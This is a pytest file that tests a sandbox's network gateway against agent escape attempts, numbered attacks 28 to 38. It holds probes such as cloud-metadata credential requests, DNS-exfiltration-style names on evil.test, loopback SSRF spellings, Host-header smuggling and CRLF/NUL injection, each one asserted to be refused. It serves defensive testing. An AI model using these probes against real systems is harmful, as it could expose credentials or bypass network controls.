"""Attacks 28 to 38 of the design's security page: the ways out of a sandbox. Each runs as the agent would, in a real
container of a real server; each names its number.

The server lives in a small internet of the test's own (tests/internet.py), where every forbidden address exists and
has a listener: "zero connections" is what they saw. More spellings of the same: tests/gateway/egress.
"""

from __future__ import annotations

import json
import shutil
import signal
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.internet import TRAPPED, Internet
from tests.place import Place, until

pytestmark = [pytest.mark.docker, pytest.mark.root, pytest.mark.timeout(300), pytest.mark.xdist_group("egress")]

ALLOWED = (
    "ok.test", "ok.test:9000", "*.wild.test", "rebind-asyncio.test", "loop.test", "meta.test", "meta6.test",
    "mapped.test", "nat64.test", "ten.test", "own.test", "mixed.test",
)  # fmt: skip
PRELUDE = """
import errno, json, os, socket, ssl, sys
answers = {}
def attempt(name, function):
    try:
        answers[name] = function() or "ok"
    except OSError as error:
        answers[name] = errno.errorcode.get(error.errno, str(error))
def tcp(address, port):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as line:
        line.settimeout(10)
        line.connect((address, port))
def everything(line):
    found = b""
    while data := line.recv(65536):
        found += data
    return found.decode("latin-1")
def say(request):
    with socket.create_connection(("127.0.0.1", 7411), 60) as line:
        line.sendall(request if isinstance(request, bytes) else request.encode("latin-1"))
        return everything(line)
def connect(target):
    line = socket.create_connection(("127.0.0.1", 7411), 60)
    line.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode("latin-1"))
    head = b""
    while not head.endswith(b"\\r\\n\\r\\n") and (byte := line.recv(1)):
        head += byte
    return line, head.decode("latin-1")
def status(target):
    line, head = connect(target)
    line.close()
    return int(head.split()[1]) if head else 0
"""


@dataclass
class Attacked:
    """A server inside the small internet, and one execution that may reach ALLOWED."""

    place: Place
    internet: Internet
    ref: str

    def attack(self, script: str, ref: str = "") -> Any:
        """Run Python inside as the agent; what it found out."""
        code = f"{PRELUDE}\n{script}\nprint(json.dumps(answers))"
        out = self.place.ok("exec", ref or self.ref, "--", "/usr/bin/python3", "-c", code)
        return json.loads(out)

    def curl(self, *arguments: str) -> tuple[int, str]:
        """Its exit code and what it said."""
        done = self.place.carrel("exec", self.ref, "--", "curl", "-sS", "-m", "60", *arguments)
        return done.returncode, (done.stdout + done.stderr).decode()

    def reached(self) -> int:
        """Connections that came to anything nobody may get to."""
        return len(self.internet.trap.having("connection"))

    def refusals(self) -> list[dict[str, Any]]:
        return [event["data"] for event in self.place.events(self.ref) if event["type"] == "egress.refused"]


@pytest.fixture(scope="module")
def attacked(sandbox_image: str) -> Iterator[Attacked]:
    folder = Path(tempfile.mkdtemp(prefix="crl-", dir="/tmp"))
    internet = Internet(folder)
    place = Place(
        Path(tempfile.mkdtemp(prefix="crl-", dir="/tmp")),
        settings=(f"image={sandbox_image}", "lease_s=2", "egress_private_allow=203.0.113.0/24"),
        program=(*internet.entering(), sys.executable, "-m", "orchestrator"),
    )
    try:
        place.serve()
        allow = [word for name in ALLOWED for word in ("--allow", name)]
        place.ok("run", "-d", "--name", "attacker", *allow, "--", "sleep", "infinity")
        until(lambda: place.record("attacker")["state"] == "RUNNING", "it runs")
        yield Attacked(place, internet, "attacker")
    finally:
        place.close()
        internet.close()
        shutil.rmtree(folder, ignore_errors=True)


def test_what_is_allowed_is_reached(attacked: Attacked) -> None:
    """Else the rest would say nothing."""
    code, said = attacked.curl("http://ok.test/there")
    assert code == 0 and json.loads(said)["target"] == "/there"
    found = attacked.attack(
        """
line, head = connect("ok.test:443")
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
with context.wrap_socket(line, server_hostname="ok.test") as tls:
    tls.sendall(b"hello")
    answers["tls"] = tls.recv(100).decode()
"""
    )
    assert found == {"tls": "hello"}


def test_28_there_is_no_direct_way_out(attacked: Attacked) -> None:
    before = len(attacked.internet.servers.having("connection"))
    found = attacked.attack(
        """
for address in ("203.0.113.10", "93.184.215.14", "10.0.0.1", "172.17.0.1", "fd12::1", "2606:4700:4700::1111"):
    attempt("tcp " + address, lambda: tcp(address, 80))
def udp(address):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"x", (address, 53))
for address in ("203.0.113.53", "8.8.8.8", "2606:4700:4700::1111", "255.255.255.255", "224.0.0.251"):
    attempt("udp " + address, lambda: udp(address))
def icmp(kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as line:
        line.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("203.0.113.10", 0))
attempt("ping", lambda: icmp(socket.SOCK_DGRAM))
attempt("raw", lambda: icmp(socket.SOCK_RAW))
answers["interfaces"] = sorted(os.listdir("/sys/class/net"))
answers["routes"] = len(open("/proc/net/route").read().splitlines()) - 1
"""
    )
    assert (found.pop("interfaces"), found.pop("routes")) == (["lo"], 0)
    assert found.pop("ping") in {"ENETUNREACH", "EACCES", "EPERM"} and found.pop("raw") in {"EPERM", "EACCES"}
    assert set(found.values()) <= {"ENETUNREACH", "EADDRNOTAVAIL", "EACCES"}, found
    assert len(attacked.internet.servers.having("connection")) == before


def test_29_neither_the_host_nor_a_neighbour(attacked: Attacked) -> None:
    place = attacked.place
    place.ok("run", "-d", "--name", "neighbour", "--", "python3", "-m", "http.server", "8000")
    try:
        until(
            lambda: attacked.attack('attempt("own", lambda: tcp("127.0.0.1", 8000))', "neighbour")["own"] == "ok", "up"
        )
        before = attacked.reached()
        ports = [80, 8000, 2375, 6379, place.port]
        found = attacked.attack(
            f"""
for port in {ports}:
    attempt(f"loopback {{port}}", lambda: tcp("127.0.0.1", port))
    for host in ("localhost:%d", "127.0.0.1:%d", "host.docker.internal:%d", "neighbour:%d", "[::1]:%d"):
        answers[host % port] = status(host % port)
"""
        )
        for asked, answer in found.items():
            assert answer == "ECONNREFUSED" if asked.startswith("loopback") else answer == 403, (asked, answer)
        assert attacked.reached() == before
        place.ok("update", "neighbour", "--allow", "localhost:8000", "--allow", f"localhost:{place.port}")
        script = f'answers["own"] = status("localhost:{place.port}")'
        assert attacked.attack(script, "neighbour") == {"own": 403}, "listed, and still the host's own"
    finally:
        place.ok("rm", "-f", "neighbour")


def test_30_metadata_is_refused_and_not_connected_to(attacked: Attacked) -> None:
    before = attacked.reached()
    code, said = attacked.curl("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    assert code == 0 and json.loads(said)["error"]["code"] == "egress_refused"
    code, said = attacked.curl(
        "-X", "PUT", "-H", "X-aws-ec2-metadata-token-ttl-seconds: 60", "http://meta.test/latest/api/token"
    )
    assert code == 0 and "(metadata)" in json.loads(said)["error"]["why"]
    targets = ["169.254.169.254:80", "[fd00:ec2::254]:80", "100.100.100.200:80", "metadata.google.internal:80"]
    targets += ["meta.test:80", "meta6.test:80"]
    found = attacked.attack(f"for target in {targets}: answers[target] = status(target)")
    assert set(found.values()) == {403}, found
    assert attacked.reached() == before


def test_31_there_is_no_resolver_and_names_that_are_not_allowed_are_not_resolved(attacked: Attacked) -> None:
    before = len(attacked.internet.servers.having("dns"))
    found = attacked.attack(
        """
def resolve(name):
    return str(socket.getaddrinfo(name, 80))
for name in ("ok.test", "c2VjcmV0.evil.test"):
    try:
        answers[name] = resolve(name)
    except socket.gaierror as error:
        answers[name] = "none"
for target in ("c2VjcmV0.evil.test:443", "c2VjcmV0.ok.test:443"):
    answers[target] = status(target)
"""
    )
    assert found == {
        "ok.test": "none",
        "c2VjcmV0.evil.test": "none",
        "c2VjcmV0.evil.test:443": 403,
        "c2VjcmV0.ok.test:443": 403,
    }
    assert len(attacked.internet.servers.having("dns")) == before


def test_32_a_host_that_is_not_listed_is_refused_in_words(attacked: Attacked) -> None:
    code, said = attacked.curl("https://nowhere.test/")
    assert code != 0 and "403" in said
    found = attacked.attack('answers["head"] = connect("nowhere.test:443")[1]')
    assert "403 Forbidden: nowhere.test:443 refused by Carrel" in found["head"]
    assert "--allow nowhere.test" in found["head"]
    refused = [each for each in attacked.refusals() if each["host"] == "nowhere.test"]
    assert len(refused) == 2 and refused[0]["port"] == 443 and "allowlist" in refused[0]["why"]


def test_33_a_host_cannot_be_switched_behind_the_proxys_back(attacked: Attacked) -> None:
    served = len(attacked.internet.servers.having("request"))
    found = attacked.attack(
        r"""
one = "GET http://ok.test/one HTTP/1.1\r\nHost: ok.test\r\nConnection: keep-alive\r\n\r\n"
answers["behind"] = say(one + "GET http://other.test/two HTTP/1.1\r\nHost: other.test\r\n\r\n")
answers["header"] = say("GET http://ok.test/three HTTP/1.1\r\nHost: other.test\r\n\r\n")
line, head = connect("ok.test:80")
line.sendall(b"GET /four HTTP/1.1\r\nHost: other.test\r\n\r\n")
answers["tunnel"] = everything(line)
"""
    )
    assert found["behind"].count("HTTP/1.1 200") == 1 and "/two" not in found["behind"]
    assert "HTTP/1.1 403" in found["header"] and "HTTP/1.1 403" in found["tunnel"]
    assert [line["target"] for line in attacked.internet.servers.having("request")[served:]] == ["/one"]


def test_34_tls_with_another_name_is_closed(attacked: Attacked) -> None:
    named = len(attacked.internet.servers.having("sni"))
    found = attacked.attack(
        """
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
for name in ("other.test", "ok.test.evil.test", None):
    line, head = connect("ok.test:443")
    attempt(str(name), lambda: context.wrap_socket(line, server_hostname=name).close())
"""
    )
    assert set(found) == {"other.test", "ok.test.evil.test", "None"} and "ok" not in found.values()
    assert len(attacked.internet.servers.having("sni")) == named
    assert [each for each in attacked.refusals() if "asks for another server: other.test" in each["why"]]


def test_35_odd_spellings_are_refused(attacked: Attacked) -> None:
    before = attacked.reached()
    odd = [
        "127.0.0.1:80", "2130706433:80", "0x7f000001:80", "017700000001:80", "127.1:80", "[::1]:80", "0:80",
        "[::ffff:127.0.0.1]:80", "[fe80::1%25lo]:80", "ok.test@127.0.0.1:80", "127.0.0.1#ok.test:80",
        "ok.test%00.evil.test:443", "ok.test.evil.test:443", "evil-ok.test:443", "ok.test..:443", "ok.test:65979",
    ]  # fmt: skip
    found = attacked.attack(
        f"""
for target in {odd}:
    answers[target] = status(target)
answers["crlf"] = int(say("CONNECT ok.test:443\\r\\nX: y HTTP/1.1\\r\\n\\r\\n").split()[1])
answers["nul"] = int(say("CONNECT ok.test\\0.evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n").split()[1])
answers["userinfo"] = int(say("GET http://ok.test@127.0.0.1/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n").split()[1])
"""
    )
    assert len(found) == len(odd) + 3 and set(found.values()) <= {400, 403}, found
    assert attacked.reached() == before


def test_36_names_that_stand_for_inner_addresses_and_names_that_change(attacked: Attacked) -> None:
    before = attacked.reached()
    found = attacked.attack(
        """
for name in ("loop", "mapped", "nat64", "ten", "own", "mixed", "meta6"):
    answers[name] = status(name + ".test:80")
answers["first"] = status("rebind-asyncio.test:80")
answers["then"] = status("rebind-asyncio.test:80")
"""
    )
    assert found.pop("first") == 200
    assert set(found.values()) == {403}, found
    assert attacked.reached() == before and TRAPPED


def test_37_a_listed_host_at_another_port(attacked: Attacked) -> None:
    before = len(attacked.internet.servers.having("connection"))
    found = attacked.attack('for port in (22, 25, 8080, 9001, 0, 65536): answers[port] = status(f"ok.test:{port}")')
    assert set(found.values()) <= {400, 403} and len(found) == 6, found
    assert len(attacked.internet.servers.having("connection")) == before


BEAT = """
while :; do curl -s -m 2 -o /dev/null -w '%{http_code}\\n' http://ok.test/beat >> codes; sleep 0.05; done
"""


def test_38_without_a_gateway_and_with_a_broken_policy_nothing_passes(attacked: Attacked) -> None:
    place = attacked.place
    place.ok("run", "-d", "--name", "beating", "--allow", "ok.test", BEAT)
    try:
        slot = until(lambda: place.record("beating")["sandbox_id"], "it has a sandbox")
        codes = place.folder / "d" / "slots" / slot / "vol" / "workspace" / "codes"

        def seen(code: str) -> int:
            return codes.read_text().split().count(code) if codes.exists() else 0

        until(lambda: seen("200"), "it beats")
        place.ok("update", "beating", "--allow-nothing")
        until(lambda: seen("403"), "its policy has nothing in it")
        place.ok("update", "beating", "--allow", "ok.test")
        until(lambda: codes.read_text().split()[-1] == "200", "it beats again")
        assert place.server is not None
        place.server.send_signal(signal.SIGKILL)
        place.server.wait()
        dead = len(attacked.internet.servers.having("request"))
        before = seen("000")
        until(lambda: seen("000") > before + 1, "it gets no answer")
        assert len(attacked.internet.servers.having("request")) == dead
        lived = seen("200")
        place.serve()
        until(lambda: seen("200") > lived, "another worker's gateway answers")
    finally:
        if place.server is None or place.server.poll() is not None:
            place.serve()
        place.ok("rm", "-f", "beating")
